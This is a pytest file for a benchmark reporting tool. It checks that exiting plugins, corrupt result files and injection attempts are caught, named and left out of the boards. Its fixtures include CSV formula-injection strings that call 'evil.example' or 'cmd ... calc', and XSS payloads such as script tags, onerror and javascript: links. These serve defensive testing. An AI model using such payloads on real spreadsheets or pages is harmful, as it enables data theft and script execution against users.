"""Round 2 of the hostile-input catalogue: plugins, result files and the boards made of them.

Silently wrong first: a plugin that ends ser-bench at import (exit 0, no results), and edited or corrupt
result files averaged into a board (``uar: 5.0``, a NaN split). Then tracebacks (a deeply nested JSON
file, split metrics that are ``null``), injection through the boards (CSV formulas, forged markdown
rows), ``-o -`` and a malformed ``schema_version``. Every case is a bad file or plugin named with the
reason and left out, never a crash, a silent exit or a wrong number.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import re
import warnings
from pathlib import Path

import pytest

from ser_bench.cli.main import main
from ser_bench.errors import SerBenchWarning
from ser_bench.reporting.html import to_html
from ser_bench.reporting.publish import render
from ser_bench.results.record import SCHEMA_VERSION, CellParams, Metrics, Result, SplitResult
from ser_bench.results.store import scan_results

LABELS = ("anger", "sadness")

# ------------------------------------------------------------------------------------------------ helpers


def record(loss="logreg", seed=0, uars=(0.5, 0.7), protocol="oodt", source="sim-crema", target="sim-ravdess",
           loss_params=None, protocol_params=None, training=None, name_tag="") -> Result:
    """A result as a run writes it: one split per UAR, each with its recall and confusion matrix."""
    splits = []
    for i, uar in enumerate(uars):
        hits = round(10 * uar)
        splits.append(SplitResult(
            name=f"s{i}", info={"repeat": i}, hash=f"h{i}", episode_hash=f"e{i}", sizes={"train": 40, "test": 20},
            support_counts={label: 2 for label in LABELS}, support_balanced=True, missing_test_classes=[],
            metrics=Metrics(uar=uar, accuracy=uar, macro_f1=uar, recall={label: uar for label in LABELS},
                            confusion=[[hits, 10 - hits], [10 - hits, hits]])))
    params = CellParams(protocol=protocol, loss=loss, source=source, target=target, encoder="identity",
                        feature="is09-64", seed=seed, labels=LABELS, protocol_params=protocol_params or {},
                        loss_params=loss_params or {}, training=training or {"epochs": 1})
    digest = hashlib.sha256(repr((protocol, loss, source, target, seed, loss_params, protocol_params, training,
                                  name_tag)).encode()).hexdigest()[:10]
    cell = f"{protocol}__{_safe(loss)}__{_safe(source or 'none')}__{_safe(target)}__seed{seed}__{digest}"
    return Result(cell_id=cell, status="ok", params=params, splits=tuple(splits))


def _safe(name: str) -> str:
    return re.sub(r"[^A-Za-z0-9_.-]", "_", name)[:20]


def write(folder: Path, result: Result) -> Path:
    path = folder / f"{result.cell_id}.json"
    result.to_disk(path)
    return path


def edited(path: Path, edit) -> Path:
    """A copy of the result file ``path`` as seed 1 (another cell), with ``edit(payload)`` applied."""
    payload = json.loads(path.read_text())
    payload["cell_id"] = payload["cell_id"].replace("__seed0__", "__seed1__")
    payload["params"]["seed"] = 1
    edit(payload)
    out = path.parent / path.name.replace("__seed0__", "__seed1__")
    out.write_text(json.dumps(payload))
    return out


@pytest.fixture()
def folder(tmp_path) -> Path:
    """A results folder holding one good result (oodt logreg, seed 0, splits at 50 and 70 %)."""
    out = tmp_path / "results"
    out.mkdir()
    write(out, record())
    return out


def good(folder: Path) -> Path:
    (path,) = folder.glob("*__seed0__*.json")
    return path


def board_table(text: str) -> list[str]:
    """The summary table's lines of a markdown board (the first table)."""
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("| method"))
    end = next((i for i in range(start, len(lines)) if not lines[i].startswith("|")), len(lines))
    return lines[start:end]


# ------------------------------------------------- 1. a plugin that ends ser-bench at import (silently wrong)

EXITS = {
    "sys.exit(0) at import": "import sys\nsys.exit(0)\n",
    "sys.exit(3) at import": "import sys\nsys.exit(3)\n",
    "sys.exit with a message at import": "import sys\nsys.exit('bye')\n",
    "exit() at import": "exit()\n",
    "sys.exit(0) in its hook": ("import sys\nfrom ser_bench import hookimpl\n\n\n@hookimpl\ndef ser_bench_losses():\n"
                                "    sys.exit(0)\n"),
    "sys.exit(0) while its hook's generator runs": (
        "import sys\nfrom ser_bench import hookimpl\n\n\ndef _specs():\n    yield from ()\n    sys.exit(0)\n\n\n"
        "@hookimpl\ndef ser_bench_losses():\n    return _specs()\n"),
}


def plugin_folder(tmp_path: Path, source: str, name: str = "quitter") -> Path:
    folder = tmp_path / "plugins"
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.py").write_text(source)
    return folder


def warned(caught, err: str) -> list[str]:
    """What a command warned about: the warnings recorded, and those the command line printed itself."""
    return [str(w.message) for w in caught] + [line for line in err.splitlines() if line.startswith("ser-bench: warn")]


@pytest.mark.parametrize("case", EXITS)
def test_a_plugin_that_exits_is_a_broken_plugin_not_the_end_of_ser_bench(case, tmp_path, capsys):
    folder = plugin_folder(tmp_path, EXITS[case])
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert main(["--plugins-dir", str(folder), "list", "losses"]) == 0
    captured = capsys.readouterr()
    said = warned(caught, captured.err)
    assert any("quitter" in w and "SystemExit" in w for w in said), said
    assert "ratio_distance" in captured.out  # everything else still works


@pytest.mark.parametrize("case", ["sys.exit(0) at import", "sys.exit(0) in its hook"])
def test_under_strict_plugins_an_exiting_plugin_is_an_error_naming_it(case, tmp_path, capsys):
    folder = plugin_folder(tmp_path, EXITS[case])
    assert main(["--strict-plugins", "--plugins-dir", str(folder), "list", "losses"]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "quitter" in err and "SystemExit" in err


def test_guard_ctrl_c_during_a_plugins_import_still_stops_ser_bench(tmp_path, capsys):
    """Not a case: SystemExit is caught, KeyboardInterrupt must not be (Ctrl-C still works)."""
    folder = plugin_folder(tmp_path, "raise KeyboardInterrupt\n")
    assert main(["--plugins-dir", str(folder), "list", "losses"]) == 130
    assert "interrupted" in capsys.readouterr().err


# ------------------------------------------------ 2. edited or corrupt values averaged in (silently wrong)


def set_metric(key, value, split=0):
    def edit(payload):
        payload["splits"][split]["metrics"][key] = value
    return edit


def set_at(*keys_and_value):
    *keys, value = keys_and_value

    def edit(payload):
        target = payload
        for key in keys[:-1]:
            target = target[key]
        target[keys[-1]] = value
    return edit


CORRUPT = {  # how -> (edit, words of the reason)
    "uar above 1": (set_metric("uar", 5.0), "splits[0].metrics.uar"),
    "uar below 0": (set_metric("uar", -0.25), "splits[0].metrics.uar"),
    "uar NaN": (set_metric("uar", float("nan")), "splits[0].metrics.uar"),
    "uar infinite": (set_metric("uar", float("inf"), split=1), "splits[1].metrics.uar"),
    "uar true": (set_metric("uar", True), "splits[0].metrics.uar"),
    "accuracy above 1": (set_metric("accuracy", 1.5), "splits[0].metrics.accuracy"),
    "macro_f1 NaN": (set_metric("macro_f1", float("nan")), "splits[0].metrics.macro_f1"),
    "a recall above 1": (set_at("splits", 0, "metrics", "recall", "anger", 2.0), "splits[0].metrics.recall"),
    "a negative count in the confusion matrix": (set_at("splits", 0, "metrics", "confusion", 0, 0, -3),
                                                 "splits[0].metrics.confusion"),
    "a fraction in the confusion matrix": (set_at("splits", 0, "metrics", "confusion", 0, 0, 2.5),
                                           "splits[0].metrics.confusion"),
    "a CCC above 1": (set_metric("continuous", {"arousal": {"ccc": 3.0, "spearman": 0.2}}),
                      "splits[0].metrics.continuous"),
    "an infinite Spearman": (set_metric("continuous", {"arousal": {"ccc": 0.3, "spearman": float("inf")}}),
                             "splits[0].metrics.continuous"),
    "a negative support count": (set_at("splits", 0, "support_counts", "anger", -2), "splits[0].support_counts"),
    "a test size that is a fraction": (set_at("splits", 0, "sizes", "test", 7.5), "splits[0].sizes"),
    "a seed that is text": (set_at("params", "seed", "1"), "params.seed"),
    "labels that are one string": (set_at("params", "labels", "anger,sadness"), "params.labels"),
    "a k that is text": (set_at("splits", 0, "info", "k", "two"), "splits[0].info"),
}


@pytest.mark.parametrize("case", CORRUPT)
def test_a_corrupt_value_is_left_out_by_name_never_averaged_in(case, folder, capsys):
    clean = board_table(render(folder))
    edit, words = CORRUPT[case]
    bad = edited(good(folder), edit)
    scan = scan_results(folder)
    assert [(p.path, p.kind) for p in scan.problems] == [(str(bad), "damaged")], scan.problems
    assert words in scan.problems[0].reason
    assert len(scan.results) == 1
    with pytest.warns(SerBenchWarning, match=re.escape(bad.name)):
        board = render(folder)
    assert board_table(board) == clean  # nothing of the bad file in any number
    assert "## Result files left out" in board and bad.name in board and words in board
    assert main(["results", "check", str(folder)]) == 1
    out = capsys.readouterr().out
    assert f"damaged: {bad}: left out" in out and words in out


def test_a_continuous_metric_that_is_undefined_is_still_a_result(folder):
    """Not a case: a constant prediction has no Spearman correlation; runs record it as NaN (a committed
    loss-zoo file holds one), which is not damage."""
    edited(good(folder), set_metric("continuous", {"arousal": {"ccc": 0.1, "spearman": float("nan")}}))
    assert scan_results(folder).problems == [] and len(scan_results(folder).results) == 2


# ------------------------------------------------------------------------------------ 3. tracebacks


def deep(depth: int = 100_000) -> str:
    return "[" * depth + "]" * depth


TRACEBACKS = {  # how -> (file name or None for a result's own name, text from the good file's payload, words)
    "a result-named file nested 100000 deep": ("x__seed3__0123456789.json", lambda p: deep(), "nested too deeply"),
    "a result-named file of open brackets": ("x__seed4__0123456789.json", lambda p: "[" * 100_000,
                                             "nested too deeply"),
    "a result nested deeply inside its params": (None, lambda p: json.dumps(p).replace(
        '"loss_params": {}', '"loss_params": {"x": ' + deep(5000) + "}"), "nested too deeply"),
    "split metrics null": (None, lambda p: _with(p, set_metric_all(None)), "splits[0].metrics"),
    "a uar that is a string": (None, lambda p: _with(p, set_metric("uar", "0.5")), "splits[0].metrics.uar"),
    "protocol params a list": (None, lambda p: _with(p, set_at("params", "protocol_params", [1])),
                               "params.protocol_params"),
    "split info a list": (None, lambda p: _with(p, set_at("splits", 0, "info", ["k", 2])), "splits[0].info"),
}


def set_metric_all(value):
    def edit(payload):
        payload["splits"][0]["metrics"] = value
    return edit


def _with(payload, edit) -> str:
    payload = json.loads(json.dumps(payload))
    payload["cell_id"] = payload["cell_id"].replace("__seed0__", "__seed1__")
    payload["params"]["seed"] = 1
    edit(payload)
    return json.dumps(payload)


@pytest.mark.parametrize("case", TRACEBACKS)
def test_a_file_that_crashed_the_reader_is_named_and_left_out(case, folder, capsys):
    name, make, words = TRACEBACKS[case]
    path = good(folder)
    bad = folder / (name or path.name.replace("__seed0__", "__seed1__"))
    bad.write_text(make(json.loads(path.read_text())))
    scan = scan_results(folder)
    assert [(p.path, p.kind) for p in scan.problems] == [(str(bad), "damaged")] and words in scan.problems[0].reason
    assert main(["results", "check", str(folder)]) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and str(bad) in captured.out and words in captured.out
    assert main(["leaderboard", str(folder)]) == 0
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and f"ser-bench: warning: {bad}: left out" in captured.err
    assert "## Result files left out" in captured.out and f"{bad}: left out" in captured.out and words in captured.out


def test_a_deeply_nested_json_file_that_is_no_result_is_ignored_like_other_non_results(folder, capsys):
    (folder / "notes.json").write_text(deep())
    assert scan_results(folder).problems == []
    assert main(["leaderboard", str(folder)]) == 0 and main(["results", "check", str(folder)]) == 0
    assert "Traceback" not in capsys.readouterr().err


# ------------------------------------------------------------------------------ 4. CSV runs formulas

FORMULAS = {"note": '=HYPERLINK("http://evil.example/?"&A1,"click")', "plus": "+1+cmd|' /C calc'!A0",
            "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+9)*cmd|' /C calc'!A0", "tab": "\t=1+1",
            "cr": "\r=1+1"}


def test_csv_export_escapes_formulas_in_text_cells_and_keeps_negative_numbers(folder):
    for path in list(folder.glob("*.json")):
        path.unlink()
    write(folder, record(loss="=1+2", loss_params={**FORMULAS, "shift": -0.5}))
    write(folder, record(loss="=1+2", loss_params={**FORMULAS, "shift": 0.25}, seed=1, uars=(0.6, 0.6)))
    write(folder, record(loss="@logreg", target="sim-ravdess", uars=(0.4, 0.45)))
    text = render(folder, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, value in row.items():
            assert _number(value) or not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert all(row["method"].startswith("oodt · ") for row in rows)  # what starts safely is left alone
    losses = {row["loss"] for row in rows}
    assert losses == {"'=1+2", "'@logreg"}
    row = next(r for r in rows if r["loss"] == "'=1+2" and r["level"] == "cell")
    assert row["loss_params.note"] == "'" + FORMULAS["note"] and row["loss_params.tab"] == "'" + FORMULAS["tab"]
    # numbers stay numbers: a negative setting, the means
    import pandas as pd

    frame = pd.read_csv(io.StringIO(text))
    shifts = frame["loss_params.shift"]
    assert shifts.dtype.kind == "f" and sorted(set(shifts.dropna())) == [-0.5, 0.25]
    assert frame["uar"].dtype.kind == "f"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


UNSAFE = ["=HYPERLINK(\"http://evil.example\")", "evil|fake", "two words", "pml:CircleLoss", "<script>",
          "line\nbreak", "-rf", "ünïcode"]


@pytest.mark.parametrize("name", UNSAFE)
def test_a_plugin_registering_an_unsafe_name_is_refused_naming_it(name, tmp_path, capsys):
    folder = plugin_folder(tmp_path, "from ser_bench import hookimpl\nfrom ser_bench.plugin_api.types import LossSpec"
                                     f"\n\n\n@hookimpl\ndef ser_bench_losses():\n    return [LossSpec(name={name!r}, "
                                     "build=lambda: None, summary='x')]\n", name="unsafe")
    assert main(["--plugins-dir", str(folder), "list", "losses"]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "local:unsafe" in err and repr(name) in err
    assert "letters, digits" in err


def test_guard_every_built_in_name_is_a_safe_name(registry):
    """Not a case: the built-ins keep their names (``pml``, ``sim-ravdess``, ``is09-64``, ``linear_svm``)."""
    names = {entry.spec.name for entry in registry.entries()}
    assert {"pml", "sim-ravdess", "is09-64", "linear_svm"} <= names
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_.-]*", n) for n in names)


# ---------------------------------------------------------------------------- 5. a forged markdown board

FORGED_ROW = "| oodt · forged | 99.9 | n = 9 source seeds |"
HOSTILE = {"note": "<script>alert(1)</script>", "end": "</table>", "pipe": "a|b\n" + FORGED_ROW + "\n",
           "tick": "`<img src=x onerror=alert(2)>`", "link": "[click](javascript:alert(3))"}


def hostile_results() -> list[Result]:
    return [
        record(loss="logreg|\n" + FORGED_ROW, target="ravdess[sex=male|female]", source="emodb|turev"),
        record(loss="logreg", loss_params=HOSTILE, target="ravdess[sex=male|female]", source="emodb|turev",
               protocol_params={"note": "``</table>`` <script>x</script>\n- forged bullet"},
               training={"epochs": 1, "x": "<b>\n# forged heading"}),
        record(loss="logreg", loss_params={"note": "plain"}, seed=1, uars=(0.6, 0.8),
               target="ravdess[sex=male|female]", source="emodb|turev"),
    ]


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line.replace("\\\\", "")))


def _outside_code(text: str) -> str:
    return re.sub(r"(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", text)


def test_a_markdown_board_cannot_be_forged_by_names_or_values(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    for result in hostile_results():
        write(folder, result)
    board = render(folder)
    lines = board.splitlines()
    table = board_table(board)
    assert len(table) == 2 + 3  # header, rule, one row per method: nothing added
    assert len({_unescaped_pipes(line) for line in table}) == 1, table  # every row has the header's cells
    assert "emodb ∪ turev → ravdess[sex=male\\|female]" in table[0]  # one cell, not two
    assert not any(line.startswith(("| oodt · forged", "- forged", "# forged")) for line in lines)
    visible = _outside_code(board)
    for raw in ("<script>", "</table>", "<img", "<b>", "](javascript:"):
        assert raw not in visible, raw
    assert "&lt;script&gt;" in board


def test_the_markdown_renders_as_one_table_without_raw_html(tmp_path):
    markdown_it = pytest.importorskip("markdown_it")
    folder = tmp_path / "results"
    folder.mkdir()
    for result in hostile_results():
        write(folder, result)
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(render(folder))
    first = html.split("</table>")[0]
    assert first.count("<tr>") == 1 + 3 and html.count("<table>") == 1
    assert "<script>" not in html and "<img" not in html and "<b>" not in html and "<a href" not in html


def test_guard_the_html_board_escapes_the_same_values(tmp_path):
    """Not a case: the HTML board escaped these already; it still does (its settings are rendered anew)."""
    page = to_html(hostile_results())
    for raw in ("<script>alert", "<img src=x", "<b>\n", "``</table>``"):
        assert raw not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;/table&gt;" in page


# ------------------------------------------------------------------------------- 6. -o - is standard output


@pytest.mark.parametrize("fmt", ["markdown", "csv", "json"])
def test_dash_as_output_means_standard_output(fmt, folder, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main(["leaderboard", str(folder), "--format", fmt, "-o", "-"]) == 0
    assert not (tmp_path / "-").exists()
    out = capsys.readouterr().out
    assert "logreg" in out


def test_dash_as_output_prints_the_html_page(folder, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main(["leaderboard", str(folder), "--format", "html", "-o", "-"]) == 0
    assert not (tmp_path / "-").exists()
    out = capsys.readouterr().out
    assert out.startswith("<!DOCTYPE html>") and "logreg" in out


def test_dash_as_output_writes_parquet_to_standard_output(folder, tmp_path, monkeypatch, capsysbinary):
    pytest.importorskip("pyarrow")
    monkeypatch.chdir(tmp_path)
    assert main(["leaderboard", str(folder), "--format", "parquet", "-o", "-"]) == 0
    assert not (tmp_path / "-").exists()
    out = capsysbinary.readouterr().out
    assert out.startswith(b"PAR1") and out.endswith(b"PAR1")


# ------------------------------------------------------------------------ 7. a malformed schema_version


@pytest.mark.parametrize("version", ["two", "2", 2.5, True, None, 0, -1, [2]])
def test_a_malformed_schema_version_is_damage_not_a_newer_schema(version, folder, capsys):
    bad = edited(good(folder), set_at("schema_version", version))
    (problem,) = scan_results(folder).problems
    assert (problem.path, problem.kind) == (str(bad), "damaged")
    assert "upgrade" not in problem.reason and "schema_version" in problem.reason
    assert main(["results", "check", str(folder)]) == 1
    assert "upgrade" not in capsys.readouterr().out


def test_guard_a_higher_whole_schema_version_is_still_newer(folder):
    """Not a case: only a whole number above the current one says "upgrade ser-bench"."""
    edited(good(folder), set_at("schema_version", SCHEMA_VERSION + 1))
    (problem,) = scan_results(folder).problems
    assert problem.kind == "unknown schema" and "upgrade ser-bench" in problem.reason


def test_finite_numbers_in_a_good_file_round_trip(folder):
    """The good file is read back unchanged (validation changes no value)."""
    (result,) = scan_results(folder).results
    payload = json.loads(good(folder).read_text())
    assert result.to_json() == payload and all(not math.isnan(s.metrics.uar) for s in result.splits)
